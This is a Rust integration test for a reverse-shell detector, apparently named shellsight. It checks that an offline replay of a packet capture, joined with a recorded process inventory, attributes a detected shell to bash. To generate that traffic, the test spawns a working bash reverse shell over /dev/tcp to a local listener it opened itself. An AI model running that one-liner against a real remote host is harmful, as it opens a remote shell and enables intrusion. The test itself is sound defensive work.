//! The investigation workflow: a capture (tcpdump) and an inventory recorded at the same
//! time (`agent --output`) are joined offline by `replay --inventory`. Needs root.

mod agent_support;
mod common;

use agent_support::{privileged, Recording};
use common::*;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::Duration;

#[test]
fn replay_joins_a_recorded_inventory_with_a_recorded_capture() {
    if !privileged() {
        return;
    }
    let dir = std::env::temp_dir().join(format!("ss-offline-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let (pcap, inventory) = (dir.join("cap.pcap"), dir.join("inventory.jsonl"));
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let mut recording = Recording::start(&pcap, &inventory, port, 18);
    let typist = std::thread::spawn(move || operator(listener));
    let mut shell = Command::new("bash")
        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    typist.join().unwrap();
    let _ = shell.wait();
    let _ = recording.agent.wait();
    std::thread::sleep(Duration::from_millis(500));
    recording.stop_capture();

    let without = replay(&[&pcap], &[]);
    assert!(!without.is_empty(), "the shell was not detected in the capture");
    assert!(without.iter().all(|a| a.get("process").is_none()));
    let with = replay(&[&pcap], &["--inventory", inventory.to_str().unwrap()]);
    let a = with
        .iter()
        .find(|a| a["process"]["name"] == "bash")
        .unwrap_or_else(|| panic!("not attributed: {with:?}"));
    assert_eq!(a["shellsight"]["tier"], "high");
    assert!(a["process"]["parent"]["pid"].as_i64().unwrap() > 0);
    assert!(a["shellsight"]["reasons"].as_array().unwrap().iter().any(|r| r == "stdio-socket"));

    // A line that is no inventory record is named by file and line.
    let bad = dir.join("bad.jsonl");
    std::fs::write(&bad, "{\"not\": \"a record\"}\n").unwrap();
    let out = run(&["replay", pcap.to_str().unwrap(), "--inventory", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("bad.jsonl:1:"));
}
